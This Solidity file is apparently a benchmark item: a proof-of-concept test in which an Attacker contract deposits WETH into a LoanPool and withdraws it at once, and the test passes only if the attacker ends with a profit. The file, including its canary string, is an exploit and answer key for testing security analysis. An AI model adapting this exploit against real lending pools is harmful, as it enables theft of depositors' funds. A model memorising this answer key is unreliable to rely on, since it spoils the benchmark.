// SPDX-License-Identifier: GPL-3.0-or-later
pragma solidity 0.8.24;

// assay-canary-c27d9b80-41e6-4a35-9f1d-6b0e83d25c74
import "../Base.sol";

contract Attacker {
    function run(LoanPool pool, Weth weth) external {
        weth.approve(address(pool), type(uint256).max);
        pool.deposit(weth.balanceOf(address(this)), address(this));
        pool.withdraw(pool.balanceOf(address(this)), address(this), 0);
    }
}

contract Proof is Base {
    Attacker private other;

    function _start() internal override {
        other = new Attacker();
        weth.mint(address(other), 1_200e18);
    }

    function exploit() public {
        other.run(pool, weth);
    }

    function test_Exploit() public {
        exploit();
        require(weth.balanceOf(address(other)) > 1_201e18, "no gain");
    }

    /// What the shares of the first depositor stand for, with loans in auction.
    function depositorFunds() public view returns (uint256) {
        return pool.balanceOf(ANA) * (pool.totalAssets() + pool.impaired()) / pool.totalSupply();
    }

    function target() public view override returns (address) {
        return address(pool);
    }

    function attacker() public view returns (address) {
        return address(other);
    }
}
